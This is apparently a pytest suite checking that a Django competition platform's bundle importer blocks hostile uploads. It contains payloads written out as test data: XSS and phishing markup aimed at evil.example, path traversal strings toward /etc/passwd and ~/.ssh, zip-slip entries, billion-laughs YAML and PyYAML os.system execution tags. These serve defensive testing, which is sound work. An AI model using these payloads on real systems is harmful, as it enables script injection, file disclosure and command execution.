"""Bundles of people who mean harm: nothing outside is read, nothing is fetched, and no page does anything."""

import io
import socket
import stat
import zipfile

import pytest
from django.test import Client

from bundles.importing import import_bundle
from competitions.models import Competition
from competitions.models.programs import program_storage
from tests.platform import factories
from tests.platform.bundles.importing.writing import FILES, YAML, packed, zipped

pytestmark = pytest.mark.django_db

PAGE = """
<script>alert(1)</script><iframe src="https://evil.example/"></iframe>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>body { display: none }</style>
<form action="https://evil.example/"><input name="password"><button formaction="javascript:x()">Go</button></form>
<p style="position: fixed; inset: 0" onmouseover="x()" id="csrf" class="button danger">Words</p>
<a href="javascript:alert(1)">one</a> <a href=" data:text/html,x">two</a> <a href="//evil.example/">three</a>
<svg><script>alert(2)</script></svg><math><mtext><img src=x onerror=alert(3)></mtext></math>
<object data="https://evil.example/"></object><embed src="https://evil.example/"><video src="https://evil.example/v">
<img src="https://evil.example/pixel.png" alt="pixel"><img src="file:///etc/passwd"><img src="../../etc/passwd">
"""
HARMFUL = (
    "<iframe", "<meta http-equiv=\"refresh", "<base", "evil.example/a.css", "display: none", "password",
    "formaction", "position: fixed", "onmouseover", "onerror", "javascript:", "data:text", "<object", "<embed",
    "<video", "src=\"https://evil", "root:", "alert(", "href=\"//evil",
)  # fmt: skip


@pytest.fixture
def alice():
    return factories.user("alice")


@pytest.fixture
def offline(monkeypatch):
    """Every address that somebody wants to reach fails the test."""

    def refused(*args, **kwargs):
        raise AssertionError(f"an address was asked for: {args}")

    monkeypatch.setattr(socket, "getaddrinfo", refused)
    monkeypatch.setattr(socket.socket, "connect", refused)


@pytest.mark.parametrize("name", ["flowers.html", "overview.md", "terms.md"])
def test_no_page_of_a_bundle_runs_frames_sends_or_loads_anything(tmp_path, alice, offline, name):
    report = import_bundle(packed(tmp_path, **{name: PAGE}), organizer=alice)
    assert report.ok, report.errors
    made = Competition.objects.get()
    browser = Client()
    browser.force_login(alice)
    base = made.get_absolute_url()
    pages = [base, *(f"{base}pages/{page.slug}/" for page in made.pages.all()), f"{base}rules/"]
    shown = [browser.get(page).content.decode() for page in pages]
    assert any("Words" in text for text in shown)
    for text in shown:
        inside = text.partition("<main")[2]
        assert [one for one in HARMFUL if one in inside] == []


@pytest.mark.parametrize(
    "written",
    [
        "../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://127.0.0.1:8000/x.zip",
        "..\\..\\secret.zip", "~/.ssh", "C:\\x.zip", "scoring_program/../../outside",
        "\"a\\0b\"", "\".\"", "\"..\"",
    ],
)  # fmt: skip
def test_nothing_outside_of_a_bundle_is_read_or_fetched(tmp_path, alice, offline, written):
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "metadata").write_text("command: stolen")
    for key in ("scoring_program: scoring_program", "reference_data: reference_data", "image: logo.png",
                "terms: terms.md", "file: flowers.html"):  # fmt: skip
        yaml = YAML.replace(key, f"{key.partition(':')[0]}: {written}")
        report = import_bundle(packed(tmp_path, yaml=yaml), organizer=alice)
        told = " ".join(one.message for one in (*report.errors, *report.warnings))
        assert "root:" not in told
        if key.startswith(("scoring", "terms")):
            assert not report.ok
    assert not Competition.objects.filter(programs__command="stolen").exists()


def _entry(name: str, kind: int) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = (kind | 0o777) << 16
    return entry


@pytest.mark.parametrize("name", ["reference_data/link", "competition.yaml", "terms.md"])
@pytest.mark.parametrize("kind", [stat.S_IFLNK, stat.S_IFIFO, stat.S_IFCHR])
def test_links_and_devices_in_a_bundle_are_refused_by_name(tmp_path, alice, name, kind):
    path = tmp_path / "bundle.zip"
    with zipfile.ZipFile(path, "w") as target:
        for file, content in FILES.items():
            if file != name:
                target.writestr(file, content)
        if name != "competition.yaml":
            target.writestr("competition.yaml", YAML)
        target.writestr(_entry(name, kind), "/etc/passwd")
    report = import_bundle(path, organizer=alice)
    assert name in report.errors[0].message


def test_a_zip_inside_that_no_program_can_be_opened_from_leaves_nothing(tmp_path, alice):
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("metadata", "command: python3 score.py\n")
        bomb.writestr("../../escaped.py", "x")
    yaml = YAML.replace("scoring_program: scoring_program", "scoring_program: bad.zip")
    before = {*_kept()}
    path = zipped(tmp_path / "bundle.zip", {**FILES, "bad.zip": inner.getvalue(), "competition.yaml": yaml})
    report = import_bundle(path, organizer=alice, dry_run=True)
    assert {*_kept()} == before
    assert not Competition.objects.exists()
    assert not list(tmp_path.rglob("escaped.py"))
    assert report.errors or report.competition is None


def _kept() -> list[str]:
    storage = program_storage()
    return storage.listdir("programs")[1] if storage.exists("programs") else []


@pytest.mark.parametrize(
    "yaml",
    [
        "d0: &d0 [x, x]\n" + "".join(f"d{i}: &d{i} [*d{i - 1}, *d{i - 1}]\n" for i in range(1, 60)),
        "!!python/object/apply:os.system ['touch /tmp/podium-hostile']",
        "title: !!python/object/apply:os.system ['true']\n",
        "a: &a\n  b: *a\n",
        "[" * 100_000,
        "a: " + "9" * 100_000,
        "<<: &x {<<: *x}\n",
        "\x00\x01",
        "version: 2\ntasks: 7\nphases: [[]]\nleaderboards: {a: b}\npages: [1, null, [2]]\nimage: {x: y}\n",
        "version: 1.5\nphases: {1: null, x: [1]}\nhtml: [1]\nleaderboard: [2]\n",
        "version: 2\ntitle: " + "x" * 900_000,
    ],
    ids=[
        "aliases", "objects", "object", "itself", "brackets", "digits", "merges", "binary", "shapes", "shapes1",
        "long",
    ],
)  # fmt: skip
def test_hostile_yaml_ends_in_a_report(tmp_path, alice, yaml):
    report = import_bundle(packed(tmp_path, yaml=yaml), organizer=alice)
    assert not report.ok
    assert all(problem.message for problem in report.errors)
    assert sum(len(one.message) for one in (*report.errors, *report.warnings)) < 200_000
    assert not Competition.objects.exists()
